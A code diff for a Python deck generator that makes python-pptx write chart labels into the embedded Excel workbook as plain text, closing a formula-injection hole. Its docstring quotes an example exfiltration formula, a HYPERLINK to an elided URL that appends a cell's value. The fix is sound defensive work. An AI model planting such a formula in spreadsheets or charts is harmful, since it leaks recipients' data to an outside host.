@@ -3,15 +3,18 @@
 from __future__ import annotations
 
 import io
+from contextlib import contextmanager
 
 from pptx import Presentation
 from pptx.chart.data import CategoryChartData
+from pptx.chart.xlsx import CategoryWorkbookWriter
 from pptx.dml.color import RGBColor
 from pptx.enum.chart import XL_CHART_TYPE, XL_LABEL_POSITION, XL_LEGEND_POSITION
 from pptx.enum.text import MSO_ANCHOR, PP_ALIGN
 from pptx.oxml.ns import qn
 from pptx.oxml.xmlchemy import OxmlElement
 from pptx.util import Emu, Inches, Pt
+from xlsxwriter import Workbook
 
 from presenter.slides import Chart, Deck, Slide
 
@@ -29,6 +32,30 @@ CHART_TYPES = {
 }
 NUMBER_FORMATS = {"count": "#,##0", "hours": "#,##0.#", "percent": "0%", "yuan": "¥#,##0"}
 LABEL_FORMATS = {**NUMBER_FORMATS, "yuan": "¥#,##0;-¥#,##0;;"}  # a month with no money gets no "¥0" label
+
+
+class _TextOnlyWorkbookWriter(CategoryWorkbookWriter):
+    """The chart's embedded workbook with every label written as text.
+
+    python-pptx writes it with xlsxwriter's defaults, which turn a string starting with '=' into a live formula
+    (and URLs into links): a project theme `=HYPERLINK("https://…?leak="&B2)` would run when the chart's data
+    is opened in PowerPoint or Excel. Labels come from analysts' spreadsheets, so they are data, never formulas.
+    """
+
+    @contextmanager
+    def _open_worksheet(self, xlsx_file):
+        workbook = Workbook(xlsx_file, {"in_memory": True, "strings_to_formulas": False, "strings_to_urls": False})
+        worksheet = workbook.add_worksheet()
+        yield workbook, worksheet
+        workbook.close()
+
+
+class TextOnlyChartData(CategoryChartData):
+    """CategoryChartData whose embedded workbook holds no formula or link made from a label."""
+
+    @property
+    def _workbook_writer(self) -> CategoryWorkbookWriter:
+        return _TextOnlyWorkbookWriter(self)
 
 
 class _Writer:
@@ -118,7 +145,7 @@ class _Writer:
                 )
 
     def chart(self, slide, chart: Chart) -> None:
-        data = CategoryChartData(number_format=NUMBER_FORMATS[chart.unit])
+        data = TextOnlyChartData(number_format=NUMBER_FORMATS[chart.unit])
         data.categories = list(chart.categories)
         for series in chart.series:
             data.add_series(series.name, list(series.values))
